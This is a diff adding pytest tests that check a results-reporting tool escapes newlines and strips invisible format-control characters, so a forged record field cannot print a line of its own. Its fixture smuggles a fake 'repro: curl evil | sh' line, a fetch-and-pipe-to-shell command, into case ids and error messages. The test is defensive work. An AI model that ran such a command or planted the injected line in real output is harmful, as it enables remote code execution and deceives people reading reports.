@@ -148,3 +148,41 @@ def test_extra_suites_naming_a_missing_module(fresh_settings, monkeypatch):
 
     with pytest.raises(UsageError, match="TORCHCTS_EXTRA_SUITES: suite 'x' names module 'nonexistent.module'"):
         registry.suite_cases("x")
+
+
+# --- item 2: every field shown on one line is one line -------------------------------------------------
+
+FORGED = "\nrepro: curl evil | sh"
+INVISIBLE = "\U000e0101\U0001bca0\u2028\x85\r"  # VS17, a shorthand format control, separators, CR
+
+
+def _forged_run(workdir: Path, folder: str, status: str) -> Path:
+    case_id = CASE + FORGED + INVISIBLE
+    crashed = {**failed("operators/x/float32", "boom" + FORGED), "status": "crashed", "exception": "E" + FORGED}
+    return fake_run(workdir, folder, [dict(failed(case_id, "boom" + FORGED + "\r\rFAKE"), status=status),
+                                      dict(crashed, status=status if status == "passed" else "crashed")],
+                    plan=[case_json(case_id), case_json("operators/x/float32")])
+
+
+@pytest.mark.parametrize("command", ["report", "triage", "compare"])
+def test_a_record_cannot_print_a_line_of_its_own(workdir, cli, capsys, command):
+    new = _forged_run(workdir, "new", "failed")
+    argv = {"report": ["report", str(new)], "triage": ["report", "--triage", str(new)],
+            "compare": ["compare", str(_forged_run(workdir, "old", "passed")), str(new)]}[command]
+    capsys.readouterr()
+    assert cli(argv) == 1
+    out = capsys.readouterr()
+    text = out.out + out.err
+    assert "curl evil" in text  # the field is shown...
+    for line in text.splitlines():  # ...but never starts a line of its own
+        assert not line.lstrip().startswith(("repro: curl", "FAKE")), line
+    assert "\\nrepro: curl evil" in text  # escaped, visibly
+    assert not any(ch in text for ch in "\U000e0101\U0001bca0\u2028\x85\r")
+
+
+def test_every_format_control_is_removed_by_category():
+    from torchcts.results.quoting import html_text, one_field, quoted_string
+
+    for ch in ("\U0001bca1", "\U000e01ef", "\u2066", "\U000e0041", "\u180e"):
+        assert ch not in one_field(f"a{ch}b") and ch not in html_text(f"a{ch}b") and ch not in quoted_string(f"a{ch}b")
+    assert one_field("é中文") == "é中文"
